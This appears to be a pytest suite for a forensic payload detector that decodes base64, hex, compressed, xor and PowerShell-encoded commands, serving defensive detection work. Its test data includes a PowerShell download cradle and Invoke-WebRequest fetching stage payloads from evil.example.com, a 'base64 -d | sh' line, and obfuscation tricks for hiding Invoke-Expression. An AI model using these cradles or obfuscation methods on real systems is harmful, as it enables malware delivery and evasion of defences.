"""Payloads: every encoding alone, chains of them, what must not be taken for one, limits, hostile text, real data."""

import base64
import bz2
import gzip
import io
import lzma
import random
import re
import tarfile
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from casemate.core.digest import digest_bytes
from casemate.policy.limits import Limits
from casemate.stages.extract.layers import undo_xor, unpack
from casemate.stages.extract.marks import MarkFinder
from casemate.stages.extract.payloads import Budget, Payload, find_payloads, kind_of
from casemate.stages.extract.plausible import looks_written, read_text

COMMAND = "IEX (New-Object Net.WebClient).DownloadString('http://evil.example.com/stage2.ps1')"
LIMITS = Limits()


def b64(data: str | bytes) -> str:
    return base64.b64encode(data if isinstance(data, bytes) else data.encode()).decode()


def find(text: str, start: int = 0, limits: Limits = LIMITS) -> list[Payload]:
    return list(find_payloads(text, start, limits))


def raw_deflate(data: bytes) -> bytes:
    engine = zlib.compressobj(wbits=-15)
    return engine.compress(data) + engine.flush()


ENCODED: dict[str, tuple[str, tuple[str, ...]]] = {
    "base64": (b64(COMMAND), ("base64",)),
    "base64 without padding": (b64(COMMAND).rstrip("="), ("base64",)),
    "base64 for URLs": (base64.urlsafe_b64encode((COMMAND + "#???>>>").encode()).decode(), ("base64",)),
    "base64 in a URL path": ("GET /redirect/" + b64(COMMAND) + " HTTP/1.1", ("base64",)),
    "base64 twice": (b64(b64(COMMAND)), ("base64", "base64")),
    "powershell -e": ("powershell -nop -e " + b64(COMMAND.encode("utf-16le")), ("base64", "utf-16le")),
    "hex": (COMMAND.encode().hex(), ("hex",)),
    "upper-case hex": (COMMAND.encode().hex().upper(), ("hex",)),
    "spaced hex": (COMMAND.encode().hex(" "), ("hex",)),
    "hyphenated hex": (COMMAND.encode().hex("-"), ("hex",)),
    "\\x escapes": ("".join(f"\\x{value:02x}" for value in COMMAND.encode()), ("hex-escapes",)),
    "\\u escapes": ("".join(f"\\u{value:04x}" for value in COMMAND.encode()), ("unicode-escapes",)),
    "%u escapes": ("".join(f"%u{value:04X}" for value in COMMAND.encode()), ("unicode-escapes",)),
    "octal": ("".join(f"\\{value:03o}" for value in COMMAND.encode()), ("octal-escapes",)),
    "URL": ("".join(f"%{value:02x}" for value in COMMAND.encode()), ("url",)),
    "decimal entities": ("".join(f"&#{value};" for value in COMMAND.encode()), ("html-entities",)),
    "hex entities": ("".join(f"&#x{value:x};" for value in COMMAND.encode()), ("html-entities",)),
    "numbers": ("[" + ",".join(map(str, COMMAND.encode())) + "]", ("char-codes",)),
    "hex numbers": (", ".join(f"0x{value:02x}" for value in COMMAND.encode()), ("char-codes",)),
    "[char]": ("+".join(f"[char]{value}" for value in COMMAND.encode()), ("char-codes", "concat")),
    "Chr()": (" & ".join(f"Chr({value})" for value in COMMAND.encode()), ("char-codes", "concat")),
    "fromCharCode": ("String.fromCharCode(" + ",".join(map(str, COMMAND.encode())) + ")", ("char-codes",)),
    "gzip": (b64(gzip.compress(COMMAND.encode(), mtime=0)), ("base64", "gzip")),
    "zlib": (b64(zlib.compress(COMMAND.encode())), ("base64", "zlib")),
    "bzip2": (b64(bz2.compress(COMMAND.encode())), ("base64", "bzip2")),
    "xz": (b64(lzma.compress(COMMAND.encode())), ("base64", "xz")),
    "raw deflate": (b64(raw_deflate((COMMAND * 3).encode())), ("base64", "deflate")),
    "xor, key in the code": ("k = 0x5b\nx = '" + b64(bytes(v ^ 0x5B for v in COMMAND.encode())) + "' -bxor 0x5b",
                             ("base64", "xor:0x5b")),
    "xor, no key": (b64(bytes(value ^ 0x7B for value in (COMMAND * 2).encode())), ("base64", "xor:0x7b")),
    "PEM": ("-----BEGIN CERTIFICATE-----\n" + base64.encodebytes((COMMAND * 3).encode()).decode() + "-----END",
            ("base64",)),
    "joined literals": (f'a = "{b64(COMMAND)[:40]}" + \n  "{b64(COMMAND)[40:]}"', ("base64",)),
    "echo into base64": ("echo d2hvYW1pIC0tdmVyc2lvbg== | base64 -d | sh", ("base64",)),
}  # fmt: skip


@pytest.mark.parametrize("name", ENCODED)
def test_each_encoding_gives_its_layers_and_its_text(name: str) -> None:
    text, layers = ENCODED[name]
    found = find(text)
    assert layers in [payload.layers for payload in found]
    payload = next(payload for payload in found if payload.layers == layers)
    assert "evil.example.com/stage2.ps1" in payload.text or "whoami" in payload.text
    assert payload.kind == "script"


HIDDEN = {
    "concat": ("&('ie'+'x') ('Down'+'load'+'String')", "DownloadString"),
    "caret": ("cmd /c p^o^w^e^r^s^h^e^l^l -c calc", "powershell"),
    "backtick": ("In`vo`ke-Exp`ress`ion $x", "Invoke-Expression"),
    "format": ("&(\"{1}{0}{2}\" -f 'voke','In','-Expression')", "Invoke-Expression"),
    "replace": ("'hXYZttp://evil.example.com/x'.Replace('XYZ','')", "http://evil.example.com/x"),
    "reverse": ('StrReverse("exe.llehsrewop")', "powershell.exe"),
    "join": ("-join ('power','shell','.exe')", "powershell.exe"),
    "rot13": ("str_rot13('cbjrefuryy.rkr')", "powershell.exe"),
}


@pytest.mark.parametrize("layer", HIDDEN)
def test_each_way_of_hiding_words_is_undone(layer: str) -> None:
    text, shown = HIDDEN[layer]
    (payload,) = find(text)
    assert layer in payload.layers
    assert shown in payload.text


def test_spans_select_the_outermost_blob_and_count_from_the_start_of_the_evidence() -> None:
    blob = b64(b64(COMMAND))
    (payload,) = find(f"value: '{blob}' end", start=1000)
    assert (payload.start, payload.end) == (1008, 1008 + len(blob))
    assert payload.text == COMMAND
    assert payload.digest == digest_bytes(COMMAND.encode())
    assert payload.size == len(COMMAND)


def test_inner_payloads_cite_the_outer_blob() -> None:
    inner = b64(gzip.compress(COMMAND.encode(), mtime=0))
    outer = b64(f"$s = '{inner}'; run $s".encode("utf-16le"))
    found = find("powershell -enc " + outer)
    assert [payload.layers for payload in found] == [
        ("base64", "utf-16le"),
        ("base64", "utf-16le", "base64", "gzip"),
    ]
    assert {(payload.start, payload.end) for payload in found} == {(16, 16 + len(outer))}


@pytest.mark.parametrize(
    "flag", ["-e", "-ec", "-en", "-enc", "-enco", "-EncodedCommand", "-eNcOdEdCoMmAnD", "/e", "/enc"]
)
def test_every_abbreviation_of_encodedcommand_is_known_even_for_a_short_command(flag: str) -> None:
    (payload,) = find(f"powershell.exe -nop {flag} {b64('whoami'.encode('utf-16le'))}")
    assert (payload.layers, payload.text) == (("base64", "utf-16le"), "whoami")


def test_auditd_process_titles_are_read_with_their_separators() -> None:
    (payload,) = find("type=PROCTITLE msg=audit(1364481363.243:24287): proctitle=2F62696E2F7368002D63")
    assert (payload.layers, payload.text) == (("hex",), "/bin/sh -c")


def test_a_jwt_gives_its_header_and_claims() -> None:
    head, claims = b64('{"alg":"HS256"}').rstrip("="), b64('{"sub":"mallory","admin":true}').rstrip("=")
    (payload,) = find(f"Authorization: Bearer {head}.{claims}.c2lnbmF0dXJl")
    assert payload.layers == ("jwt",)
    assert payload.text == '{"alg":"HS256"}\n{"sub":"mallory","admin":true}'
    assert payload.kind == "json"


def test_binaries_are_named_by_their_magic_and_shown_by_their_strings() -> None:
    stub = (
        b"MZ" + bytes(58) + (128).to_bytes(4, "little") + b"\0" * 64 + b"PE\0\0http://evil.example.com/gate.php\0\1\2"
    )
    (payload,) = find("x=" + b64(stub))
    assert (payload.kind, payload.size) == ("pe", len(stub))
    assert "http://evil.example.com/gate.php" in payload.text
    assert [payload.kind for payload in find("x=" + b64(b"\x7fELF" + bytes(60)))] == ["elf"]


def test_a_zip_inside_is_listed() -> None:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as archive:
        archive.writestr("invoice.js", "var a = new ActiveXObject('WScript.Shell')")
    (payload,) = find(b64(packed.getvalue()))
    assert payload.kind == "zip"
    assert "invoice.js" in payload.text
    assert "ActiveXObject" in payload.text


NO_PAYLOADS = [
    "d41d8cd98f00b204e9800998ecf8427e",
    "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
    "cf83e1357eefb8bdf1542850d66d8007d620e4050b5715dc83f4a921d36ce9ce47d0d13c5d85f2b0ff8318d2877eec2f63b931bd47417a81",
    "081109 204655 556 INFO dfs.DataNode$PacketResponder: Received block blk_3587508140051953248 of size 67108864",
    "/usr/lib/python3/dist-packages/setuptools/command/InstallEggInfo/ResourceManagerImplementation",
    "org/apache/hadoop/hdfs/server/namenode/FSNamesystemMetricsInitialisation",
    "AKIAIOSFODNN7EXAMPLE wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY",
    "550e8400-e29b-41d4-a716-446655440000 00000000-0000-0000-0000-000000000000",
    "GET /search?q=hello%20big%20world%2C%20again HTTP/1.1",
    "01:23:45:67:89:ab 1.3.6.1.4.1.311.21.8.7587021.751874.11030412.6202749.3702260.207.3968263",
    "counts: 12,15,200,31,18,99,250,3,4,17,8,22,1,0,0,34",
    "-" * 200,
    "x" * 200,
    "A" * 2000,
    "'Hello, ' + 'world'",
    "the result of a^b^c is symmetric",
    "`code` and `more code`",
]


@pytest.mark.parametrize("text", NO_PAYLOADS)
def test_ids_digests_paths_and_plain_code_are_no_payloads(text: str) -> None:
    assert find(text) == []


def test_random_bytes_in_base64_and_hex_are_no_payloads() -> None:
    chance = random.Random(7)
    lines = [b64(chance.randbytes(chance.randint(18, 200))) for _ in range(1500)]
    lines += [chance.randbytes(chance.choice([16, 20, 32, 64])).hex() for _ in range(1500)]
    assert find("\n".join(f"id={line};" for line in lines)) == []


def test_depth_is_bounded() -> None:
    text = COMMAND
    for _ in range(12):
        text = b64(text)
    (payload,) = find(text)
    assert payload.layers == ("base64",) * LIMITS.payload_depth
    assert COMMAND not in payload.text  # what is left is shown as it is
    (payload,) = find(text, limits=Limits(payload_depth=12))
    assert payload.text == COMMAND


def test_a_compression_bomb_is_stopped_at_the_size_limit() -> None:
    bomb = b64(gzip.compress(b"whoami && net user /domain " * 1_000_000))
    limits = Limits(payload_bytes=100_000)
    found = find(bomb, limits=limits)
    assert all(payload.size <= limits.payload_bytes for payload in found)
    assert unpack(base64.b64decode(bomb), 5000) == ("gzip", (b"whoami && net user /domain " * 200)[:5000])


def test_count_and_total_are_bounded_over_the_chunks_of_a_source() -> None:
    text = "\n".join(f"x{number} = '{b64(f'{COMMAND} {number}')}'" for number in range(30))
    assert len(find(text)) == 30
    assert len(find(text, limits=Limits(payloads_per_source=7))) == 7
    limits = Limits(payloads_per_source=40)
    budget = Budget(limits)
    assert [len(list(find_payloads(text, 0, limits, budget))) for _ in range(3)] == [30, 10, 0]
    assert len(find(text, limits=Limits(payload_total_bytes=1000))) < 15


ENCODERS: dict[str, Callable[[bytes], bytes]] = {
    "base64": base64.b64encode,
    "hex": lambda data: data.hex().encode(),
    "gzip": lambda data: base64.b64encode(gzip.compress(data, mtime=0)),
    "zlib": lambda data: base64.b64encode(zlib.compress(data)),
    "utf-16": lambda data: base64.b64encode(data.decode().encode("utf-16le")),
    "url": lambda data: "".join(f"%{value:02x}" for value in data).encode(),
    "escapes": lambda data: "".join(f"\\x{value:02x}" for value in data).encode(),
    "numbers": lambda data: ",".join(map(str, data)).encode(),
    "line-broken": lambda data: base64.encodebytes(data).strip(),
}


@given(
    chain=st.lists(st.sampled_from(sorted(ENCODERS)), min_size=1, max_size=3),
    number=st.integers(0, 10**6),
    lead=st.sampled_from(["", "run: ", 'x = "', "payload=", "\n\n"]),
)
@settings(max_examples=80, deadline=None, suppress_health_check=[HealthCheck.too_slow])
def test_any_chain_of_encodings_is_undone(chain: list[str], number: int, lead: str) -> None:
    secret = f"Invoke-WebRequest http://evil.example.com/{number}/stage.ps1 -OutFile c:\\windows\\temp\\a.exe"
    data = secret.encode()
    for name in chain:
        data = ENCODERS[name](data)
    text = f"{lead}{data.decode()}\nthe end"
    found = find(text, start=50)
    assert any(secret in payload.text for payload in found)
    for payload in found:
        assert 50 <= payload.start < payload.end <= 50 + len(text)


_PIECES = [
    "'", '"', "+", "\\x41", "%41", "&#65;", "[char]65", "chr(65)", "-f", "`", "^", "{0}", ".replace(", "eyJ",
    "=", "\n", "powershell -enc ", "aGVsbG8gd29ybGQgaGVsbG8gd29ybGQ", "H4sIAAAA", "TVqQAAMAAAAEAAAA",
    "104,116,116,112", "\ud800", "\0", "frombase64string('", "proctitle=", "-join", "[-1..-9]", "\U000e0041",
    'atob("', "xor 0x41",
]  # fmt: skip
PIECES = st.sampled_from(_PIECES)


@given(st.one_of(st.text(max_size=300), st.lists(PIECES, max_size=60).map("".join)), st.integers(0, 10**9))
@settings(max_examples=100, deadline=None)
def test_any_text_is_survived_and_spans_stay_inside_it(text: str, start: int) -> None:
    for payload in find(text, start):
        assert start <= payload.start < payload.end <= start + len(text)
        assert 1 <= len(payload.layers) <= LIMITS.payload_depth + 1
        assert payload.kind


@given(st.binary(max_size=400))
@settings(max_examples=100, deadline=None)
def test_any_bytes_in_base64_are_survived(data: bytes) -> None:
    for magic in (b"", b"\x1f\x8b\x08", b"\x78\x9c", b"PK\x03\x04", b"MZ", b"BZh9", b"\xfd7zXZ\x00"):
        find("frombase64string('" + b64(magic + data) + "')")


HOSTILE = ["A", "[", "\\", "'", "'+", "%41", "powershell -e ", "1,", "\\x41", "a^", "[char]65+", "(", "eyJ", " ", "' "]
HOSTILE += ["eyJaaaaaaaa.", "a`", "'a'.replace('b','c')", "'{0}' -f ", "'abc'[-1..-", "'a'+", "fooBarBaz/", "&#65;"]
HOSTILE += ["echo aaaa", "0x41,", "frombase64string(", "aa-aa-", "\\u0041", "key=", "'a' "]


@pytest.mark.slow
@pytest.mark.timeout(120)
@pytest.mark.parametrize("piece", HOSTILE)
def test_long_repetitions_are_done_with(piece: str) -> None:
    assert len(find(piece * (400_000 // len(piece)))) < 50


def test_xor_is_not_guessed_where_nothing_convinces() -> None:
    chance = random.Random(3)
    for _ in range(200):
        assert undo_xor(chance.randbytes(chance.randint(24, 400)), (b"\x41",), all_keys=True) is None


def test_kinds_of_text() -> None:
    assert kind_of("http://a.example/x\nhttps://b.example/y") == "url-list"
    assert kind_of('{"a": 1}') == "json"
    assert kind_of("<html><p>hello") == "markup"
    assert kind_of("powershell -c calc") == "script"
    assert kind_of("meet me at noon") == "text"


def test_reading_bytes_as_text() -> None:
    assert read_text("whoami".encode("utf-16le")) == ("whoami", "utf-16le")
    assert read_text("whoami".encode("utf-16be")) == ("whoami", "utf-16be")
    assert read_text("Zażółć gęślą jaźń".encode()) == ("Zażółć gęślą jaźń", "")
    assert read_text(b"\xff\xfe\xfd\x00\x01") is None
    assert read_text(bytes(range(256))) is None
    assert looks_written("get the file from the server")
    assert not looks_written("qzxjvkwq zzqxj kkqwxz")


@given(st.binary(max_size=300))
@settings(max_examples=60, deadline=None)
def test_both_ways_of_finding_marks_agree(data: bytes) -> None:
    pytest.importorskip("hyperscan", reason="hyperscan is not installed: there is only one way")
    finder = MarkFinder((b"a", b"aa", b"\\x", b"(", b"ab", b"[char"))
    text = data.lower() + b"aaa\\x[char(ab" + data.lower()
    assert finder.places_by_find(text) == finder.places_by_hyperscan(text)


def member_texts(archive: Path, suffix: str) -> list[str]:
    with tarfile.open(archive) as opened:
        return [
            stream.read().decode("utf-8", "replace")
            for member in opened
            if member.name.endswith(suffix) and (stream := opened.extractfile(member)) is not None
        ]


@pytest.mark.data
def test_real_attack_commands_give_their_payloads(shared_data: Path) -> None:
    texts = member_texts(shared_data / "logs" / "atomic_red_team_yaml_mit.tar.gz", ".yaml")
    found = [payload for text in texts for payload in find(text)]
    assert len(found) >= 20
    shown = "\n".join(payload.text for payload in found)
    assert "Invoke-WmiMethod" in shown
    assert "import sys;import re, subprocess" in shown
    assert not [payload for payload in found if any(layer.startswith("xor") for layer in payload.layers)]


@pytest.mark.data
def test_plain_logs_give_no_payload(shared_data: Path) -> None:
    texts = member_texts(shared_data / "logs" / "loghub_2k_corrected.tar.gz", ".log")
    assert len(texts) == 10
    assert [payload for text in texts for payload in find(text)] == []


@pytest.mark.data
def test_every_base64_a_sigma_rule_looks_for_is_read(shared_data: Path) -> None:
    texts = member_texts(shared_data / "logs" / "sigma_rules.tar.gz", "win_powershell_base64_mppreference.yml")
    found = [payload.text for text in texts for payload in find(text)]
    assert any(re.match("(?i)add-mppreference", shown) for shown in found)
